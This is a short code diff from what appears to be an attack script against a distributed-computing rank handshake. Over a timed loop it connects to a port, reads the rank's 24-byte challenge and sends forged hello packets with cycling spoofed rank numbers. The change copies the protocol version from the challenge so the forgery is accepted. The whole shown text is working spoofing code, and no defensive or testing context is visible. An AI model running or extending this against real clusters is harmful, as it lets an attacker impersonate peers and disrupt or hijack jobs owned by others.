@@ -108,11 +108,13 @@ while time.time() - start < 240:
             s = connect(port)
             open_sockets.append(s)
             s.settimeout(0.3)
-            if len(s.recv(24, socket.MSG_WAITALL)) != 24:  # the challenge comes when the rank accepts
+            challenge = s.recv(24, socket.MSG_WAITALL)  # it comes when the rank accepts
+            if len(challenge) != 24:
                 continue
+            version = struct.unpack_from("=I", challenge, 4)[0]  # the rank's protocol: a hello it reads
             key = b"2-0000000000000000#0"
             forged_rank = (forged_rank + 1) % world_size
-            s.sendall(struct.pack("=IIIHH16s32s", 0x4A4B4848, 3, forged_rank, len(key), 0, os.urandom(16),
+            s.sendall(struct.pack("=IIIHH16s32s", 0x4A4B4848, version, forged_rank, len(key), 0, os.urandom(16),
                                   os.urandom(32)) + key)
             counts["forged"] += 1
         except OSError:
